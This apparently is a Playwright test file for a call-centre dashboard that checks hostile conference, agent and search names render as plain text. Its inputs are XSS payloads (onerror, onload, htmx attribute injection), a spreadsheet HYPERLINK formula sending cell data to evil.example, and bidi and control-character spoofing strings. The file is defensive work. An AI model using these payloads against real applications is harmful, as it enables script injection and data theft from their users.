"""Names that others chose come out as text: no markup, no reversed writing, no wall of letters."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Invite, Visitor
from tests.browser.sandbox import Sandbox

MARKUP = '<img src=x onerror="document.title=1">&lt;b&gt;"\'</a></tr>{{ 7|add:7 }}'
NAMES = {
    "markup": MARKUP,
    "a script": "</script><script>document.title=1</script><svg onload=document.title=2>",
    "an attribute": '" autofocus onfocus="document.title=1" x=\'y\' hx-get=/setup/ hx-trigger=load ',
    "a formula": '=HYPERLINK("https://evil.example/?"&A1,"Billing")',
    "an entity": "&#60;script&#62;document.title=1&lt;/script&gt; &amp;quot; &nbsp;",
    "a partial of ours": '<hx-partial hx-target="#page" hx-swap="outerHTML">gone</hx-partial>',
    "bidi": "Billing \u202egnp.exe\u202c \u2066x\u2069",
    "newlines": "Billing\r\n\r\ndata: <b>x</b>\nid: 99\n\nevent: heartbeat\ndata: {}\n\n",
    "long": "x" * 10_000,
    "wide": "𒐫﷽" * 200,
    "control": "Billing\x00\x07\u0085\u2028end",
    "blank": " \t\u200b ",
}


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_a_hostile_conference_name_is_text(kim: Visitor, sandbox: Sandbox, name: str) -> None:
    screen = kim.visit()
    screen.is_live()
    call = sandbox.script(name, customer=f"{name[:200]}@evil.example")
    sandbox.tell()
    good = sandbox.script("Billing-good")
    screen.see(good.name)

    row = screen.page.locator("#conferences > tr").first
    shown = row.get_by_role("link")
    expect(shown).not_to_contain_text("Conference ") if name.strip(" \t\u200b") else None
    text = shown.inner_text()
    assert len(text) <= 60
    assert text.isprintable()
    assert screen.page.locator("#conferences > tr").count() == 2
    assert screen.page.locator("#conferences img, #conferences b, #conferences script, #page hx-partial").count() == 0
    assert screen.page.title() == "Floor · Floorline"
    shown.click()
    expect(screen.desk.locator("h2")).to_have_text(text)
    assert screen.desk.locator("img, b, script").count() == 0
    assert screen.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    screen.is_live()
    sandbox.act(call.legs["Ana Ruiz"], "speak")
    expect(row).to_contain_text("Ana")


def test_a_hostile_agent_name_is_text_everywhere_it_is_said(invite: Invite, kim: Visitor, sandbox: Sandbox) -> None:
    """Also in the sentences that scripts write: the armed barge."""
    admin = invite("admin").visit("/admin/conferences/agent/?q=Ana+Ruiz").page
    admin.get_by_role("link", name="Ana Ruiz").click()
    admin.get_by_label("Name", exact=False).first.fill(MARKUP)
    admin.get_by_role("button", name="Save", exact=True).click()
    expect(admin.locator(".messagelist .success")).to_be_visible()
    try:
        call = sandbox.script("Billing-agent")
        screen = kim.visit()
        screen.see(call.name)
        expect(screen.row(call.name)).to_contain_text(MARKUP[:30])
        screen.monitor(call.name)
        screen.role("Whisper").click()
        screen.verified("Whisper")
        expect(screen.ear).to_contain_text(f"Whisper → {MARKUP[:30]}")
        screen.barge()
        screen.verified("Barge")
        assert screen.page.locator("#page img").count() == 0
        assert screen.page.title() == "(!) Floor · Floorline"
    finally:
        admin.get_by_role("link", name="<img").first.click()
        admin.get_by_label("Name", exact=False).first.fill("Ana Ruiz")
        admin.get_by_role("button", name="Save", exact=True).click()
        expect(admin.locator(".messagelist .success")).to_contain_text("Ana Ruiz")


def test_a_hostile_search_is_text(kim: Visitor, sandbox: Sandbox) -> None:
    screen = kim.visit()
    search = screen.page.get_by_role("searchbox")

    search.fill(MARKUP[:60])
    search.press("Enter")

    expect(screen.page.get_by_text("No live call matches")).to_contain_text("<img src=x")
    expect(search).to_have_value(MARKUP[:60])
    assert screen.page.locator("#page img").count() == 0
    screen.is_live()
